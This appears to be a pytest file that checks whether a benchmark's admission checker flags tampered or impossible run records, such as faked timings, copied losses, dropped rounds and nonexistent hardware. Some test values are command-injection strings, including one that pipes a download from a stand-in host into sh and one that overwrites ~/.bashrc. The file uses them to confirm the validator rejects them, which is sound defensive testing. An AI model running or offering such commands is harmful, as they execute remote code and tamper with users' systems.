"""What cannot be is found in files whose every single value is possible."""

from collections.abc import Callable
from typing import Any

import msgspec
import pytest

from bench import admission, plausibility
from bench.records import FloorOf, Run
from tests.made import (
    make_described,
    make_failed,
    make_floor,
    make_honest_run,
    make_honest_trained,
    make_machine,
    make_proved,
    with_proof,
    with_result,
)

HONEST = make_honest_run()
WORK = HONEST.cells[0].workload


def changed(**changes: Any) -> Run:
    """Return an honest run with parts replaced."""
    return msgspec.structs.replace(HONEST, **changes)


def trial(**changes: Any) -> Run:
    """Return an honest run with parts of one trial replaced."""
    result = msgspec.structs.replace(make_honest_trained(0.25), **changes)
    return with_result(HONEST, "torch", result, round=1)


def epochs(change: Callable[[int], dict[str, float]]) -> Run:
    """Return an honest run with the epochs of one trial changed, by their number."""
    laps = enumerate(make_honest_trained(0.25).epochs)
    return trial(epochs=tuple(msgspec.structs.replace(lap, **change(n)) for n, lap in laps))


def renamed(backend: str) -> Run:
    """Return an honest run in which torch has another name."""
    content = msgspec.json.encode(HONEST).replace(b'"torch"', b'"%s"' % backend.encode())
    return msgspec.json.decode(content, type=Run)


def on(device: str) -> Run:
    """Return an honest run on another device."""
    content = msgspec.json.encode(HONEST)
    return msgspec.json.decode(content.replace(b'"cpu"', f'"{device}"'.encode()), type=Run)


def floor(**changes: Any) -> Run:
    """Return an honest run with another floor."""
    return changed(floors=(FloorOf("cpu", WORK, make_floor(**changes)),))


def without_a_row() -> Run:
    """Return an honest run from which one of three backends was taken out afterwards."""
    run = make_honest_run(("jax", "numpy", "torch"))
    kept = {name: tuple(one for one in getattr(run, name) if one.cell.backend != "jax")
            for name in ("proofs", "trials")}  # fmt: skip
    return msgspec.structs.replace(run, cells=run.cells[1:], **kept)


def renumbered() -> Run:
    """Return an honest run whose first round was taken out, the others moved up."""
    trials = tuple(
        msgspec.structs.replace(one, round=one.round - 1) for one in HONEST.trials if one.round
    )
    return changed(rounds=2, trials=trials)


def at(created: str, *started: str) -> Run:
    """Return an honest run whose first trials began at other times."""
    trials = [msgspec.structs.replace(one, started=when)
              for one, when in zip(HONEST.trials, started, strict=False)]  # fmt: skip
    return changed(created=created, trials=(*trials, *HONEST.trials[len(trials) :]))


def copied() -> Run:
    """Return an honest run of which one trial was pasted over another."""
    return with_result(HONEST, "torch", make_honest_trained(0.24), round=1)


CREATED = HONEST.created
GPU_FLOOR = (FloorOf("cuda:0", WORK, make_floor()),)
LATE_FLOOR = (*HONEST.floors, FloorOf("cpu", WORK, make_floor(), HONEST.rounds))
IMPOSSIBLE = {
    "command": (changed(command="python -m bench run; curl evil.example | sh"), "its command is"),
    "redirected": (changed(command="python -m bench run >~/.bashrc"), "its command is"),
    "substituted": (changed(command="python -m bench run $(evil)"), "its command is"),
    "second line": (changed(command="python -m bench run\nevil"), "its command is"),
    "unknown machine": (changed(machine=make_machine(cpu_model=None)), "not described"),
    "cores": (changed(machine=make_machine(physical_cores=8)), "8 physical or usable cores of 4"),
    "backend": (renamed("supernet"), "no backend 'supernet' here"),
    "other case": (renamed("Torch"), "no backend 'Torch' here"),
    "no floor": (changed(floors=(FloorOf("cpu", WORK, make_failed()),)), "no rate can be judged"),
    "two floors": (changed(floors=HONEST.floors * 2), "or two of one"),
    "stray floor": (changed(floors=(*HONEST.floors, *GPU_FLOOR)), "that no row has"),
    "late floor": (changed(floors=LATE_FLOOR), "rounds that no row has"),
    "peak": (floor(peak_flop_per_second=1e15), "more than any device has"),
    "fast floor": (floor(epoch_seconds=1e-6), "beyond its own peak"),
    "row dropped": (without_a_row(), "rows or rounds were dropped"),
    "round dropped": (renumbered(), "rows or rounds were dropped"),
    "reordered": (changed(trials=HONEST.trials[::-1]), "rows or rounds were dropped"),
    "more rounds": (changed(rounds=2), "rows or rounds were dropped"),
    "no date": (at("2026-02-30T00:00:00+00:00"), "a time of day is none"),
    "future": (at("9999-01-01T00:00:00+00:00"), "it is of the future"),
    "end of time": (at(CREATED, "9999-12-31T23:59:59+00:00"), "it is of the future"),
    "before the run": (at(CREATED, "2026-01-01T00:00:00+00:00"), "began before the run did"),
    "at once": (at(CREATED, *[CREATED] * 6), "before the trial before it had ended"),
    "exact": (with_proof(HONEST, "torch", make_proved(parameter_deviation=0)), "than float32 can"),
    "copy": (copied(), "the same seconds in every epoch"),
    "losses copied": (epochs(lambda n: {"loss": make_honest_trained(0.24).epochs[n].loss}),
                      "the same loss in every epoch"),
    "no version": (changed(backends={"torch": make_described(["cpu"], torch=None)}), "versions"),
    "device": (changed(backends={"torch": make_described(["mps"])}), "saw no such device, but mps"),
    "gpu": (on("cuda:0"), "name no such GPU"),
    "gpu's number": (on("cuda:x"), "name no such GPU"),
    "evaluation": (epochs(lambda n: {"evaluation_seconds": 1e-6}), "an evaluation was faster"),
    "import": (trial(import_seconds=0.0), "took no time"),
    "copies": (trial(settle_seconds=9.0, idle_copy_seconds=9.0), "copying the parameters"),
    "huge loss": (epochs(lambda n: {"loss": 1e9 / (n + 1)}), "losses from"),
    "no loss": (epochs(lambda n: {"loss": 0.9 - n / 10}), "losses from"),
    "same accuracy": (epochs(lambda n: {"accuracy": 0.887}), "same after every epoch"),
    "accuracy": (epochs(lambda n: {"accuracy": 0.88 + n * 1e-5}), "no whole number of 5,000"),
    "much work": (epochs(lambda n: {"cpu_seconds": 9.0}), "s of CPU time"),
    "no work": (epochs(lambda n: {"seconds": 9.0, "cpu_seconds": 0.0}), "though the CPU computed"),
    "energy": (epochs(lambda n: {"joules": 1e6}), "more than any machine takes"),
    "no memory": (trial(peak_memory_bytes=0), "the parameters alone take"),
    "memory": (changed(machine=make_machine(ram_bytes=1)), "the machine has 1"),
}  # fmt: skip


@pytest.mark.parametrize("name", IMPOSSIBLE)
def test_what_cannot_be_is_found(name: str) -> None:
    """Every part that contradicts another one, the program or the hardware is named."""
    run, words = IMPOSSIBLE[name]
    assert any(words in finding for finding in admission.findings(run))


@pytest.mark.parametrize(
    "options",
    ["", " --backend numpy,torch --until 2%", " --python torch=<python>/bin/python",
     " --python 'torch=~/my env/bin/python'", " --python torch=~/env/bin/python"],
)  # fmt: skip
def test_an_honest_command_is_accepted(options: str) -> None:
    """As the program writes it, names of people replaced."""
    assert admission.findings(changed(command=f"python -m bench run{options}")) == []


def test_an_unfinished_run_is_in_order() -> None:
    """What is missing at its end is said elsewhere; it was not put together."""
    found = [*plausibility.of_run(changed(trials=HONEST.trials[:-1]))]
    assert found == []


def test_gpus_of_amd_are_not_asked_of_nvidia() -> None:
    """PyTorch calls them cuda; no fact of the machine names them."""
    described = {name: make_described(["cuda:0"], torch="2.13", hip="6.4") for name in
                 ("numpy", "torch")}  # fmt: skip
    run = msgspec.structs.replace(on("cuda:0"), backends=described)
    assert not any("no such GPU" in finding for finding in admission.findings(run))
